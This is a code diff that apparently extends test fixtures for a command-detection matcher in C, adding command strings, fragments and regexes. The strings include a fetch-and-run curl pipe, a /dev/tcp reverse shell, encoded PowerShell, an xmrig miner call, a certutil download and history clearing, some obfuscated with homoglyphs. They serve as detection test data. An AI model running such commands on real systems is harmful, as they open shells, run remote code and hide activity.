@@ -104,12 +104,14 @@ static const char *const ig_cmds[] = {
     "powershell -enc QUJDREVG", "curl http://x.example/a.sh | sh", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
     "xmrig -o stratum+tcp://pool.xyz:3333", "history -c", "nginx -g daemon off;", "cmd.exe /c whoami",
     "CMD.EXE /C WHOAMI", "python3 -c 'import pty'", "certutil -urlcache -f http://x/a.exe a.exe",
-    "ls -la", ""};
+    "ls -la", "", "powershell -ENC QUJD", "ta\\u017fk \\u212aill", "ASK whoAmi", "hhistory -c", "curl http"};
 static const char *const ig_frags[] = {
     "-enc", "/dev/tcp/", "stratum", "STRATUM", "whoami", "history", "| sh", "urlcache", "pty", "/c", "",
     "daemon", "x", "a.exe"};
 static const char *const ig_regexes[] = {
-    "(?i)-enc\\\\s", "stratum\\\\+tcp", "^curl", "(?i)whoami$", "/dev/(tcp|udp)/", "a.exe"};
+    "(?i)-enc\\s", "stratum\\+tcp", "^curl", "(?i)whoami$", "/dev/(tcp|udp)/", "a.exe", "-enc|whoami",
+    "(?i)STRATUM", "cu?rl", "cur+l http", "[ch]istory -c", "h{1,2}istory", "\\x68istory", "(?i)ask\\b",
+    "wh(?=o)oami", "\\Qa.exe\\E", "(?i)CMD\\.EXE /C", "x{0}whoami", "daemon\\b|^ls", "\\bpty\\b"};
 static const char *const ig_images[] = {
     "web:1", "wincontainerapp:v1", "api:2", "front:1", "registry.local/web:3", "WEB:1", "api:20"};
 static const char *const ig_image_globs[] = {"web:*", "wincontainerapp:*", "api:?", "*:1", "*", "registry.local/*",
